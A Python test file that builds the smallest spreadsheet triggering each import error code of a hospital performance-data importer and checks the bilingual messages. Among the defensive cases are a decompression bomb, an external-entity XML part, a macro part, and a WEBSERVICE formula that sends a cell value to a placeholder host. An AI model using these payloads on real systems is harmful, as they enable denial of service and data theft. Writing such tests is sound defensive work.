"""The gallery of imports: for every code the smallest workbook that causes it, and its exact text.

`tests/errors/import/<code>/expected.txt` holds the texts; the workbooks are small enough to be built here.
Texts are rewritten by `--update-golden` and read in the diff.
"""

from collections.abc import Callable, Sequence
from dataclasses import replace
from datetime import date
from pathlib import Path
from typing import get_args

import pytest
from openpyxl import Workbook
from tests.unit.excel.excel_building import BOOK, ROSTER, Rows, place, read, saved, sheet_bytes
from tests.unit.excel.test_excel_guard import EXTERNAL, HEAD, SHEET, TAIL, gibibyte_of_zeros, with_part

from perf.excel import Limits, read_facts, read_roster
from perf.excel.codes import ImportCode
from perf.excel.layouts import layout_digest
from perf.excel.said import ERRORS_MAX, TABLES_MAX
from perf.kernel.issues import Issue
from perf.kernel.subjects import Roster

HERE = Path(__file__).parent / "import"
OLD = Path(__file__).parents[1] / "unit" / "excel" / "files" / "kinds.xls"
OLE = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(600)
FAR = HEAD + b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>' + TAIL
UNCALCULATED = (
    HEAD
    + (
        '<row r="1"><c r="A1" t="inlineStr"><is><t>工号</t></is></c><c r="B1" t="inlineStr"><is><t>出院人次</t></is></c></row>'
        '<row r="2"><c r="A2" t="inlineStr"><is><t>000203</t></is></c><c r="B2"><f>1+1</f></c></row>'
    ).encode()
    + TAIL
)
PEOPLE = ["工号", "姓名", "机构编码", "岗位", "折算人数", "起始日期", "结束日期"]
Make = Callable[[], Sequence[Issue]]


def raw(content: bytes, limits: Limits | None = None) -> Sequence[Issue]:
    return read_facts("2025-06 数据.xlsx", content, BOOK, ROSTER, limits=limits or Limits()).issues


def more_errors_than_are_listed() -> Sequence[Issue]:
    text = "工号,出院人次\n" + "00203x,1\n" * (ERRORS_MAX + 1)
    return read_facts("2025-06 数据.csv", text.encode(), BOOK, ROSTER).issues


def more_tables_than_are_read() -> Sequence[Issue]:
    text = "工号,出院人次\n000203,1\n" * (TABLES_MAX + 1)
    return read_facts("2025-06 数据.csv", text.encode(), BOOK, ROSTER).issues


def facts(*rows: Sequence[object], **more: object) -> Make:
    return lambda: read(rows, **more).issues


def persons(*rows: Sequence[object], header: Sequence[object] = PEOPLE) -> Make:
    def make() -> Sequence[Issue]:
        return read_roster("花名册.xlsx", sheet_bytes([header, *rows], title="花名册"), known=ROSTER).issues

    return make


def sheets(hidden: str, *tables: Rows) -> Make:
    def make() -> Sequence[Issue]:
        book = Workbook()
        book.remove(book.active)
        for number, rows in enumerate(tables, 1):
            sheet = book.create_sheet(f"表{number}")
            for row in rows:
                sheet.append(list(row))
        if hidden == "sheet":
            book.worksheets[-1].sheet_state = "hidden"
        if hidden == "row":
            book.worksheets[0].row_dimensions[2].hidden = True
        if hidden == "column":
            book.worksheets[0].column_dimensions["C"].hidden = True
        return raw(saved(book))

    return make


def duplicate_parts() -> Sequence[Issue]:
    return raw(with_part("xl/Workbook.xml", b"<workbook/>"))


def ambiguous_column() -> Sequence[Issue]:
    visits = replace(BOOK.measures["visits"], synonyms=("人次",))
    discharges = replace(BOOK.measures["discharges"], synonyms=("人次",))
    book = replace(BOOK, measures={**BOOK.measures, "visits": visits, "discharges": discharges})
    content = sheet_bytes([["工号", "人次", "服务得分"], ["000203", 1, 2]])
    return read_facts("2025-06 数据.xlsx", content, book, ROSTER).issues


def same_institutions() -> Sequence[Issue]:
    roster = Roster([*ROSTER, place("X205", "泥河镇卫生院")])
    return read([["机构名称", "开放床日"], ["泥河镇卫生院", 1]], roster=roster).issues


def remembered_column() -> Sequence[Issue]:
    remembered = {("医务科", layout_digest(["工号", "甲"])): {"甲": "discharges"}}
    content = sheet_bytes([["填报科室:医务科"], ["工号", "甲"], ["000203", 1]])
    return read_facts("2025-06 数据.xlsx", content, BOOK, ROSTER, remembered=remembered).issues


STAFF, PLACE = ["工号", "姓名", "出院人次"], ["机构编码", "机构名称", "开放床日"]
GOOD = [STAFF, ["000203", "张三", 1]]


def _with_total(wrong: object, share: object) -> Make:
    counts = {"000203": (30, 10), "000204": (40, 4), "000207": (70, 30), "000206": (24, 8), "000205": (50, 75)}
    rows = [[number, a, b, a + b, f"{a * 1000 // (a + b) / 10}%"] for number, (a, b) in counts.items()]
    rows[1][3:] = [wrong, share]
    return facts(["工号", "诊疗人次", "出院人次", "服务合计", "门诊占比"], *rows)


def one(measure: str, value: object, **more: object) -> Make:
    return facts(["工号", measure], ["000203", value], **more)


CASES: dict[str, Make] = {
    "workbook-empty": lambda: raw(b""),
    "workbook-too-large": lambda: raw(bytes(2 << 20), Limits(file_bytes=1 << 20)),
    "workbook-not-excel": lambda: raw(b"%PDF-1.7"),
    "workbook-ending": lambda: raw("工号,出院人次\n000203,17\n".encode()),
    "workbook-encrypted": lambda: raw(OLE + "EncryptedPackage".encode("utf-16-le")),
    "workbook-damaged": lambda: raw(sheet_bytes(GOOD)[:900]),
    "workbook-too-many-parts": lambda: raw(sheet_bytes(GOOD), Limits(parts=5)),
    "workbook-duplicate-parts": duplicate_parts,
    "workbook-inflates": lambda: raw(gibibyte_of_zeros()),
    "workbook-entities": lambda: raw(with_part(SHEET, EXTERNAL + HEAD + TAIL)),
    "workbook-cell-too-far": lambda: raw(with_part(SHEET, FAR)),
    "workbook-too-many-cells": lambda: raw(sheet_bytes(GOOD), Limits(cells=5)),
    "workbook-too-costly": lambda: raw(OLD.read_bytes() + bytes(16 << 20), Limits(memory_bytes=8 << 20)),
    "workbook-macros": lambda: raw(with_part("xl/vbaProject.bin", b"")),
    "workbook-external-links": lambda: raw(with_part("xl/externalLinks/externalLink1.xml", b"")),
    "formula-reaches-out": facts(
        STAFF, ["000203", "张三", '=WEBSERVICE("http://x/?"&A1)'], ["000204", "李四", '=HYPERLINK("http://x")']
    ),
    "no-table": facts(["随便", "写写"]),
    "no-figures": facts(STAFF, ["000203", "张三", None]),
    "sheet-hidden": sheets("sheet", GOOD, GOOD),
    "sheet-unknown": sheets("", GOOD, [["菜", "价"]]),
    "row-skipped": facts(*GOOD, ["合计", None, 1]),
    "rows-hidden": sheets("row", GOOD),
    "columns-hidden": sheets("column", GOOD),
    "column-unknown": facts([*STAFF, "午餐"], ["000203", "张三", 1, "面"]),
    "column-alike": facts(["工号", "本月出院人次数"], ["000203", 1]),
    "column-remembered": remembered_column,
    "column-unclear": facts(["工号", "出院总人次", "诊疗人次"], ["000203", 1, 1]),
    "column-ambiguous": ambiguous_column,
    "column-duplicate": facts(["工号", "出院人次", "出院人数"], ["000203", 1, 2]),
    "months-without-measure": facts(["工号", "1月"], ["000203", 1]),
    "total-differs": _with_total(45, "90.9%"),
    "share-differs": _with_total(44, "99.9%"),
    "column-wrong-level": one("开放床日", 1),
    "column-unit": one("出院人次(元)", 1),
    "mapping-unknown": facts(*GOOD, mapping={"姓名": "xm"}),
    "mapping-unused": facts(*GOOD, mapping={"午餐": "ignore"}),
    "period-missing": facts(*GOOD, name="数据.xlsx"),
    "period-invalid": facts(["工号", "月份", "出院人次"], ["000203", "2025-13", 1]),
    "period-contradicts": facts(["2025年5月"], *GOOD),
    "period-kind": facts(["机构编码", "服务人口"], ["X203", 30_000]),
    "roster-not-given": facts(*GOOD, roster=None),
    "subject-missing": facts(STAFF, [None, None, 1]),
    "staff-number-unknown": facts(STAFF, ["00203x", None, 1]),
    "staff-number-zeros": facts(STAFF, [203, "张三", 1]),
    "staff-number-ambiguous": facts(STAFF, [12, None, 1]),
    "staff-number-numeric": facts(STAFF, [203, None, 1], roster=None),
    "institution-unknown": facts(PLACE, ["X299", None, 1]),
    "institution-ambiguous": same_institutions,
    "institution-contradicts": facts(PLACE, ["X203", "白湖镇卫生院", 1]),
    "institution-name-completed": facts(["机构名称", "开放床日"], ["庐江县白湖镇卫生院", 1]),
    "name-unknown": facts(["姓名", "出院人次"], ["张三丰", 1]),
    "name-ambiguous": facts(["姓名", "出院人次"], ["王芳", 1]),
    "name-contradicts": facts(STAFF, ["000203", "李四", 1]),
    "not-on-roster": facts(STAFF, ["000209", "离职", 1]),
    "item-unknown": facts(["工号", "项目编码", "出院人次"], ["000203", "zzz", 1]),
    "measure-unknown": facts(["机构编码", "数据项", "数值"], ["X203", "开放总床日", 1]),
    "not-a-number": one("服务得分", "优秀"),
    "number-in-words": one("服务得分", "八十八"),
    "number-as-text": one("服务得分", "８８"),
    "number-in-brackets": one("增长率(%)", "(5)"),
    "percent-unclear": one("满意度(%)", 0.875),
    "percent-unexpected": one("服务得分", "88%"),
    "too-many-digits": one("门诊收入(元)", 1234.567),
    "out-of-range": one("服务得分", 130),
    "rating-unknown": one("病历评级", "a"),
    "event-unknown": one("重大事故", "也许"),
    "blank-marker": one("服务得分", "—"),
    "cell-error": one("服务得分", "#DIV/0!"),
    "cell-date": one("服务得分", date(2025, 6, 1)),
    "cell-merged": facts(STAFF, ["000203", "张三", 1], ["000204", "李四", None], merge=["C2:C3"]),
    "formula-not-calculated": lambda: raw(with_part(SHEET, UNCALCULATED)),
    "too-many-errors": more_errors_than_are_listed,
    "too-many-tables": more_tables_than_are_read,
    "duplicate-same": facts(*GOOD, ["000203", "张三", 1]),
    "duplicate-differs": facts(*GOOD, ["000203", "张三", 2]),
    "roster-column-missing": persons(["000301", "新人"], header=["工号", "姓名"]),
    "roster-value": persons(["000301", "新人", "X203", "内科医生", 1.5]),
    "roster-date": persons(["000301", "新人", "X203", "内科医生", 1, "2025-13-01"]),
    "roster-dates-reversed": persons(["000301", "新人", "X203", "内科医生", 1, "2025-06-01", "2025-05-31"]),
    "roster-no-post": persons(["000301", "新人", "X203"]),
    "roster-over-one-post": persons(
        ["000301", "新人", "X203", "内科医生", 1], ["000301", "新人", "X204", "外科医生", 0.5]
    ),
    "roster-duplicate": persons(["000301", "新人", "X203", "内科医生", 1], ["000301", "新人", "X203", "内科医生", 1]),
    "roster-same-number": persons(["000301", "新人", "X203", "内科医生", 1], ["000301", "别人", "X203", "内科医生", 1]),
    "roster-no-name": persons(["000301", None, "X203", "内科医生", 1]),
    "roster-same-name": persons(["000301", "新人", "X203", "内科医生", 1], ["000302", "新人", "X204", "外科医生", 1]),
    "identity-invalid": persons(
        ["000301", "新人", "X203", "内科医生", "110105194912310021", "1380000000", "4539148803436468"],
        header=[*PEOPLE[:4], "身份证号", "手机", "银行卡号"],
    ),
    "identity-digits-lost": persons(
        ["000301", "新人", "X203", "内科医生", 110105194912310021], header=[*PEOPLE[:4], "身份证号"]
    ),
    "identity-misplaced": persons(["000301", "新人", "X203", "11010519491231002X", 1]),
    "identity-same": persons(
        ["000301", "新人", "X203", "内科医生", "11010519491231002X"],
        ["000302", "来者", "X203", "内科医生", "11010519491231002X"],
        header=[*PEOPLE[:4], "身份证号"],
    ),
    "identity-differs": persons(
        ["000301", "新人", "X203", "内科医生", 0.5, "4539148803436467"],
        ["000301", "新人", "X204", "内科医生", 0.5, "6222021234567890128"],
        header=[*PEOPLE[:5], "银行卡号"],
    ),
}


def rendered(issues: Sequence[Issue]) -> str:
    return "".join(f"{issue.severity}\n{issue.render('zh')}\n{issue.render('en')}\n\n" for issue in issues)


@pytest.mark.parametrize("code", get_args(ImportCode))
def test_every_code_has_its_smallest_workbook_and_its_exact_text(code, request):
    assert code in CASES, f"add the smallest workbook that causes {code}"
    text = rendered([issue for issue in CASES[code]() if issue.code == code])
    expected = HERE / code / "expected.txt"
    if request.config.getoption("--update-golden", default=False):
        expected.parent.mkdir(parents=True, exist_ok=True)
        expected.write_text(text, encoding="utf-8")
    assert text, f"the workbook for {code} does not cause it"
    assert text == expected.read_text(encoding="utf-8")


@pytest.mark.parametrize("code", CASES)
def test_what_was_found_what_was_expected_and_what_to_do_stand_in_both_languages(code):
    for issue in CASES[code]():
        for text in (issue.found, issue.expected, issue.hint):
            assert text.zh, issue.code
            assert text.en, issue.code


def test_the_gallery_holds_no_code_that_does_not_exist():
    assert {path.name for path in HERE.iterdir()} == set(get_args(ImportCode)) == set(CASES)
